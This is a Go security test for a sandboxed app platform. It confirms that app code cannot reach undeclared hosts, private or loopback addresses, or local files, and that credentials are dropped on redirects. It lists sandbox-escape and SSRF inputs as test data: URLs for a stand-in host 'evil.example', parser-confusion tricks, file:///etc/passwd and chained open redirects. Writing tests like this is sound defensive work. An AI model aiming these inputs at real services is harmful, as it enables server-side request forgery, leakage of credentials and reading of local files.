package attack

import (
	"encoding/json"
	"net/http"
	"strings"
	"sync"
	"testing"
)

// The same refusals as at the broker, seen from app code with everything in between:
// SDK, worker, door, broker, guard.
func TestAttackFetchUndeclared(t *testing.T) {
	p := newPlatform(t)
	p.Host(t, "evil.example", canary(t))
	p.Play(t, "10.0.0.1", canary(t), certificateOf("inside.example.com"))
	p.Play(t, "93.184.216.77", canary(t), certificateOf("half.example.com"))
	p.Resolve("inside.example.com", []string{"10.0.0.1"})
	p.Resolve("half.example.com", []string{"93.184.216.77", "10.0.0.1"})
	var mu sync.Mutex
	var carried []string
	p.Host(t, "second.example.com", http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		for _, name := range []string{"Authorization", "Cookie", "Proxy-Authorization"} {
			if v := r.Header.Get(name); v != "" {
				carried = append(carried, name+": "+v)
			}
		}
	}))
	hops := 0
	p.Host(t, "api.example.com", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hops++
		w.Header().Set("Location", r.URL.Query().Get("to"))
		w.WriteHeader(302)
	}))
	at := p.deploy("development", source{also: []string{"all"}, egress: []string{"api.example.com", "second.example.com", "*.example.com"}, code: `
const api = __annex_require("@annex/api");
const http = __annex_require("node:http"), https = __annex_require("node:https");
const options = { redirect: "follow", headers: { Authorization: "Bearer secret", Cookie: "a=secret" } };
const ways = {
  fetch: (url) => api.fetch(url, options),
  global: (url) => globalThis.fetch(url, options),
  request: (url) => globalThis.fetch(new Request(url, options)),
  object: (url) => api.fetch(new URL(url), options),
  post: (url) => api.fetch(url, { ...options, method: "POST", body: "secret" }),
  https: (url) => new Promise((done, failed) => { try { (https.default ?? https).get(url, options, done).on("error", failed); } catch (err) { failed(err); } }),
  http: (url) => new Promise((done, failed) => { try { (http.default ?? http).get(url, options, done).on("error", failed); } catch (err) { failed(err); } }),
};
async function all(urls) {
  const out = {};
  for (const url of urls) for (const [name, way] of Object.entries(ways)) {
    try { const r = await way(url); out[name + " " + url] = "answered " + (r.status ?? r.statusCode); } catch (err) { out[name + " " + url] = err.code ?? err.cause?.code ?? err.name; }
  }
  return out;
}`})
	to := func(url string) string {
		return "https://api.example.com/?to=" + strings.NewReplacer("&", "%26", "#", "%23", "?", "%3f").Replace(url)
	}
	urls := []string{
		"https://evil.example/", "https://EVIL.example/", "https://api.example.com@evil.example/", "https://evil.example\\@api.example.com/", "https://evil.example:443/", "//evil.example/",
		"https://inside.example.com/", "https://half.example.com/", "https://api.example.com:8443/", "http://api.example.com/", "https://10.0.0.1/", "https://127.0.0.1/", "https://[::1]/", "https://localhost/",
		p.Access.URL + "/api/v1/whoami", "https://annex.localhost/", "https://x.hooks.localhost/", "https://example.com/", "file:///etc/passwd", "ftp://api.example.com/", "blob:https://api.example.com/x",
		to("https://evil.example/"), to("//evil.example/"), to("https://inside.example.com/"), to("http://api.example.com/"), to("https://127.0.0.1/"), to(p.Access.URL + "/api/v1/whoami"), to("https://api.example.com@evil.example/"),
		to("file:///etc/passwd"), to(to("https://evil.example/")),
	}
	got := map[string]string{}
	for _, url := range urls { // one at a time: a call may make a hundred requests
		at.result("all", []string{url}, &got)
	}
	for name, result := range got {
		// Node's http modules hand the redirect itself to the app, and follow nothing.
		if strings.HasPrefix(result, "answered") && !(strings.HasPrefix(name, "http") && result == "answered 302") {
			t.Errorf("%s: %s", name, result)
		}
	}
	if len(got) != 7*len(urls) || hops == 0 {
		t.Errorf("%d results for %d addresses, %d hops", len(got), len(urls), hops)
	}
	got = nil
	at.result("all", []string{to("https://second.example.com/")}, &got)
	if got["fetch "+to("https://second.example.com/")] != "answered 200" {
		t.Errorf("a granted redirect: %v", got)
	}
	mu.Lock()
	defer mu.Unlock()
	if len(carried) > 0 {
		t.Errorf("the second host was given %v", carried)
	}
	for _, d := range p.Dialled() {
		if d.Addr().IsPrivate() || d.Addr().IsLoopback() {
			t.Errorf("%s was dialled", d)
		}
	}
	if told, _ := json.Marshal(p.Resolved()); strings.Contains(string(told), "evil.example") {
		t.Errorf("refused names were looked up: %s", told)
	}
}
